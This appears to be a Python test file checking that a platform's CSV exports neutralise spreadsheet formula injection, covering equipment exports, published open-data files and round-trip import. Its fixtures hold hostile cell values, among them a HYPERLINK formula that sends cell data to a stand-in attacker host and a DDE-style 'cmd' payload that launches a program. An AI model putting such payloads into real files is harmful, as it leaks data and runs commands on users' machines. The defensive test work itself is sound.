"""No CSV the platform writes runs a formula in a spreadsheet (finding 5 of #13).

Before: names or tags starting with ``=``, ``+``, ``-`` or ``@`` were exported raw in
``/api/v1/assets.csv`` and in published open-data CSV.
"""

from __future__ import annotations

import csv
import io

from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import strategies as st

from convergence.csv_output import FORMULA_TRIGGERS, neutralise, restore_cell
from convergence.members.roles import Role
from convergence.opendata.tableschemas import SchemaName
from tests.opendata.formats import csv_rows, frictionless_errors
from tests.opendata.planting import create_dataset, engine_of, make_asset, publish
from tests.support import Territory
from tests.web.pages_support import add_asset, log_in_as

FORMULA = '=HYPERLINK("https://attaquant.example/?"&A1;"Cliquez")'


@given(st.text())
def test_no_text_cell_starts_a_formula(cell: str) -> None:
    safe = neutralise(cell)
    if safe.startswith(FORMULA_TRIGGERS):
        float(safe.replace(" ", "").replace(",", ""))  # only plain numbers keep their sign
    if not cell.startswith("'"):
        assert restore_cell(safe) == cell


def test_numbers_and_phone_numbers_are_left_alone() -> None:
    assert [neutralise(c) for c in ("-12.5", "+33144276350", "1e-3", "-2.1e+05")] == [
        "-12.5", "+33144276350", "1e-3", "-2.1e+05",
    ]  # fmt: skip
    assert [neutralise(c) for c in ("-1+1", "@SUM(A1)", "+cmd", "\t=1", "\r=1")] == [
        "'-1+1", "'@SUM(A1)", "'+cmd", "'\t=1", "'\r=1",
    ]  # fmt: skip


def test_the_equipment_export_defuses_names_and_tags_and_imports_back(
    client: TestClient, territory: Territory
) -> None:
    add_asset(client, territory.versailles, FORMULA, tags=["@SUM(1+1)*cmd!A0", "ok"])
    log_in_as(client, territory.versailles, Role.viewer)
    exported = client.get("/api/v1/assets.csv").text
    [row] = csv.DictReader(io.StringIO(exported))
    assert row["name"] == "'" + FORMULA
    assert row["tags"].startswith("'@SUM")
    assert float(row["lon"]) > 2  # numbers stay numbers
    # An exported file imports back to the same names and tags (the quote is taken away).
    response = client.post(
        "/api/v1/assets/import",
        headers=territory.versailles.bearer(),
        files={"file": ("e.csv", exported.encode(), "text/csv")},
    )
    assert response.status_code in (200, 201), response.text
    items = client.get("/api/v1/assets", headers=territory.versailles.bearer()).json()["items"]
    assert [a["name"] for a in items] == [FORMULA, FORMULA]
    assert items[0]["tags"] == items[1]["tags"] == ["@SUM(1+1)*cmd!A0", "ok"]


def test_published_open_data_csv_defuses_names(client: TestClient, territory: Territory) -> None:
    make_asset(engine_of(client), territory.boulogne, name="-2+3+cmd|' /C calc'!A0", domain="air")
    dataset_id = create_dataset(client, territory.boulogne, "equipment")
    publish(client, territory.boulogne, dataset_id)
    url = f"/api/public/v1/datasets/{dataset_id}/files/equipment.csv"
    content = client.get(url).content
    [row] = csv_rows(content)
    assert next(v for v in row.values() if "cmd" in v).startswith("'-2+3")
    assert frictionless_errors(SchemaName.equipment, content) == []
